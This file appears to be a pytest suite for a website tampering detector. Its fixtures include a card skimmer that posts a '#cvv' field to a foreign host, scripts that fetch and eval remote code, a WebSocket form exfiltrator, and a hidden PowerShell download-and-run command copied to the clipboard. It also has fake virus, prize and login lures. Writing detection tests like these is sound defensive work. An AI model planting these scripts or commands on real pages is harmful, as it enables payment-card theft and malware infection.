"""Pretences on the site's own pages, and scripts that take what visitors type."""

from collections.abc import Sequence

import pytest

from app.domain.tampering import TamperSign
from app.engines.analyse.own_site.own_lures import examine_lures
from app.engines.extract.page import extract_document
from app.engines.html.document import HtmlDocument
from app.engines.parsing.own_pages import own_page_of
from tests.support.cpu_time import least_cpu_s

URL = "https://www.school.test/"
TYPE = "text/html; charset=utf-8"


def signs(html: str, *, known: Sequence[str] = ()) -> list[TamperSign]:
    document = HtmlDocument.decode(html.encode(), TYPE)
    page = own_page_of(document, extract_document(document, url=URL, headers=[("content-type", TYPE)]), URL)
    return [one.sign for one in examine_lures(page, lambda host: host in known, offer_in)]


def offer_in(text: str) -> tuple[str, tuple[str, ...]] | None:
    return ("an offer", ("offer",)) if "an offer" in text else None


SKIMMER = """<script>document.forms[0].addEventListener("submit",function(){
    fetch("https://api.collect.test/x",{method:"POST",body:document.querySelector("#cvv").value})})</script>"""


def test_what_is_typed_is_handed_over_to_a_foreign_host():
    assert signs(SKIMMER) == [TamperSign.SCRIPT_TAKES]


@pytest.mark.parametrize(
    ("html", "known"),
    [
        (SKIMMER, ["api.collect.test"]),
        (SKIMMER.replace("api.collect.test", "api.school.test"), []),
        (SKIMMER.replace("#cvv", "#search"), []),
    ],
)
def test_services_the_site_itself_and_searches_take_nothing(html, known):
    assert signs(html, known=known) == []


def test_code_that_a_foreign_host_sends_is_run():
    code = '<script>fetch("https://cdn.load.test/a").then(r=>r.text()).then(t=>eval(t))</script>'
    assert signs(code) == [TamperSign.SCRIPT_TAKES]
    assert signs('<script>import("https://cdn.load.test/a.js")</script>') == [TamperSign.SCRIPT_TAKES]


PROGRAM = '<p>{}</p><a href="https://dl.files.test/setup.zip">Setup</a> <p>Unpack with the password 1234.</p>'


def test_protection_is_to_be_switched_off_for_a_program_that_lies_elsewhere():
    assert signs(PROGRAM.format("First pause real-time protection.")) == [TamperSign.LURE]


@pytest.mark.parametrize(
    "text",
    [
        "Please do not turn off your antivirus.",
        "The page told people to switch off their antivirus and run it.",
        "安装时无须关闭杀毒软件。",
    ],
)
def test_who_advises_against_it_lures_nobody(text):
    assert signs(PROGRAM.format(text)) == []


def test_a_script_says_what_a_foreign_one_shows():
    foreign = '<script src="https://chat.window.test/w.js"></script>'
    assert signs(f"{foreign}<script>cfg={{t:'an offer'}}</script>") == [TamperSign.LURE]
    assert signs("<script>cfg={t:'an offer'}</script>") == []
    assert signs(f"{foreign}<script>ask='Enter your 12 word recovery phrase'</script>") == [TamperSign.LURE]


def test_a_head_says_that_the_page_is_that_of_a_house():
    assert signs('<link rel="canonical" href="https://www.big-casino.test/">') == [TamperSign.LURE]
    assert signs('<link rel="canonical" href="https://www.city.test/">') == []


@pytest.mark.parametrize(
    "tag",
    [
        "<script src=//" + "a." * 9 + "bc" * 20 + "x" * 480 + "y" * 1_100 + "<",
        "<script src=//" + ("a-" * 31 + ".") * 9 + "b" * 62 + "!",
        "<script " + "src=//a.bc" * 60 + "<",
    ],
)
def test_tags_that_nearly_name_a_script_cost_little(tag):
    assert least_cpu_s(lambda: signs(tag * 100), enough_s=0.5) < 0.5


OUTDATED = "<p>Your browser is out of date.</p>"
REFRESHES = "<meta content=1;//a.bc refresh>" * 900


@pytest.mark.parametrize(
    "html",
    [
        f"<style>z-index {'position:fixed;bottom:0;' * 40_000}</style>",
        f"{OUTDATED}<!-- .exe {'href=.' * 160_000}-->",
        f"<head>{REFRESHES}</head><p>a {'.-' * 20_000}</p>",
    ],
    ids=["covers", "programs", "refreshes"],
)
def test_pages_that_nearly_pretend_something_cost_little(html):
    assert least_cpu_s(lambda: signs(html), enough_s=0.5) < 0.5


WORDS = "<p>" + "The choir and both orchestras play on Friday at seven in the hall of the school. " * 8 + "</p>"
REFRESH = '<head><meta http-equiv="refresh" content="1; url=https://win.prize.test/?s=1"></head>'


def test_a_whole_page_is_left_at_once_for_a_host_that_it_says_nothing_of():
    assert signs(f"{REFRESH}{WORDS}") == [TamperSign.LURE]


@pytest.mark.parametrize(
    "html",
    [
        REFRESH,
        f"{REFRESH}{WORDS}<p>We have moved.</p>",
        f"{REFRESH.replace('1;', '60;')}{WORDS}",
        f"{REFRESH.replace('win.prize.test', 'win.school.test')}{WORDS}",
        f"{REFRESH}{WORDS}<p>Prize is our partner.</p>",
    ],
)
def test_who_moves_says_so_or_leaves_nothing_behind(html):
    assert signs(html) == []


COVER = '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">{}</div>'
WON = '<p>Congratulations! You have won a free phone.</p><a href="https://prize.test/">Claim</a>'
FOREIGN_LOG_IN = '<p>{}</p><form action="https://mail.test/p"><input type="password" name="p"></form>'
LOG_IN = '<form action="/login"><input type="password" name="p"></form>'
COPIES = "<script>b.onclick=function(){navigator.clipboard.writeText('powershell -w hidden iwr https://c.test/a|iex')}</script>"


@pytest.mark.parametrize(
    "html",
    [
        COVER.format("<p>Your computer is infected. Call support now: +1-888-555-0137</p>"),
        COVER.format(WON),
        f"<style>.b{{position:fixed;z-index:9999;inset:0}}</style>{WON}",
        COVER.format('<h1>You are using an older version</h1><a href="https://up.test/Update.js">Update</a>'),
        FOREIGN_LOG_IN.format("Your session has expired."),
        FOREIGN_LOG_IN.format("Your mailbox is almost full. Password expires in 24 hours."),
        f"<p>Verify you are human: press Windows + R</p>{COPIES}",
    ],
)
def test_pretences_lie_in_wait_on_inner_pages_as_well(html):
    assert signs(html) == [TamperSign.LURE]


@pytest.mark.parametrize(
    "html",
    [
        "<p>Your computer is infected? Call our help desk: 01632 960155</p>",
        COVER.format("<p>You are using an old version of your browser. Please update it.</p>"),
        '<p>[!] The version is out of date, the latest is 1.9</p><a href="https://lab.test/machine.zip">Machine</a>',
        f"<p>Your session has expired.</p>{LOG_IN}",
        FOREIGN_LOG_IN.format("Forgot your password? Your session will expire after 20 minutes."),
        FOREIGN_LOG_IN.format("Call us if your account is locked. Passwords expire every 90 days. Account: full name"),
        f"<p>Install the tool from your shell.</p>{COPIES}",
        f"<p>Press Windows + R to open the Run dialog.</p>{COPIES.replace('c.test', 'get.school.test')}",
        "<p>Press Windows + R.</p><script>b.onclick=()=>navigator.clipboard.writeText(x);l=['powershell']</script>",
        COVER.format("<p>Call us at 01632 960155 when your computer is infected.</p>"),
        COVER.format("<p>Is it true that a virus was detected? Call us: 01632 960155</p>"),
        COVER.format(
            '<p>Congratulations to our pupils who won the first prize!</p><a href="https://town.test/">Town</a>'
        ),
        COVER.format('<p>恭喜我校学生获得一等奖。</p><a href="https://town.test/">Town</a>'),
        f"<style>.c{{position:fixed;left:0;right:0;bottom:0;z-index:9999}}</style>{WON}",
        f"<style>.m{{position:fixed;top:0;left:-320px;width:320px;height:100%;z-index:1045}}</style>{WON}",
        f'<p>Please confirm your email address.</p><form action="https://news.test/s"><input name="m"></form>{LOG_IN}',
    ],
)
def test_help_notices_and_log_ins_of_the_site_are_none(html):
    assert signs(html) == []


def test_all_that_is_typed_is_sent_unseen():
    code = "document.forms[0].onsubmit=function(){new WebSocket('wss://s.test/').send(new FormData(this))}"
    assert signs(f"<script>{code}</script>") == [TamperSign.SCRIPT_TAKES]


def test_that_a_form_was_sent_is_no_secret():
    """Only what was typed is one."""
    code = "document.querySelectorAll('form').forEach(f=>f.onsubmit=()=>{new Image().src='https://count.test/?e=sent'})"
    assert signs(f"<script>{code}</script>") == []
    typed = code.replace("sent'", "'+f[0].value")
    assert signs(f"<script>{typed}</script>") == [TamperSign.SCRIPT_TAKES]


def test_a_script_that_shows_its_own_notice_is_no_window_of_a_foreign_one():
    foreign = '<script src="https://check.bad.test/api.js"></script>'
    assert signs(f"{foreign}<script>show('an offer')</script>") == [TamperSign.LURE]
    assert signs(f"{foreign}<script>b.innerHTML='an offer';document.body.appendChild(b)</script>") == []
